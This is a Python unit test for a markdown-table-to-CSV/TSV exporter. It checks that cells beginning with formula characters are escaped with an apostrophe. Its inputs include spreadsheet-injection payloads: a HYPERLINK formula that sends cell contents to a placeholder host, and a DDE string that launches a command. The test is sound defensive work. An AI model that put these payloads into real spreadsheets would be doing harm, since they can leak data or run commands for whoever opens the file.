"""Tables for spreadsheets."""

from desktop.core.markdown.blocks import parsed
from desktop.core.markdown.table_export import as_csv, as_tsv, cells


def test_tables_for_spreadsheets() -> None:
    (block,) = parsed('| a | b |\n|---|---|\n| =SUM(A1) | 1,5 |\n| "q" | -3 |\n| @x | +49 |\n| -cmd | *y* |')
    rows = cells(block)
    assert rows[4] == ("-cmd", "y")
    assert as_tsv(rows).split("\n")[1] == "'=SUM(A1)\t1,5"
    for cell in ('+1+HYPERLINK("http://e/"&A1)', "-2+3+cmd|' /C calc'!A0", "=1", "@x"):
        assert as_csv(((cell,),)).lstrip('"').startswith("'")
    assert as_csv((("-3.5 %", "+1,000", "a;=B1"),)) == '-3.5 %,"+1,000","a;=B1"'
    assert as_csv(rows).split("\n") == ["a,b", '\'=SUM(A1),"1,5"', '"""q""",-3', "'@x,+49", "'-cmd,y"]
